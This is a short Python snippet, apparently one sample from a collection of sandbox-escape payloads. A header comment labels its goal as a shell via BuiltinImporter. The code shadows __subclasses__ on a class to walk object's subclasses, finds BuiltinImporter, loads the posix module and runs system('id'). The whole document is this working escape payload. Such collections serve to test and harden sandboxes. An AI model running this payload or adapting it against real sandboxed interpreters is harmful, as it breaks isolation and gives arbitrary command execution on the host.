# HARM: shell via BuiltinImporter | TRICK: class attribute __subclasses__ = lambda: [object] in Base body shadows type.__subclasses__
class Base:
    __subclasses__ = lambda: [object]
class A(Base): pass
for top in Base.__subclasses__():
    for k in top.__subclasses__():
        if k.__name__ == "BuiltinImporter":
            k.load_module("posix").system("id")
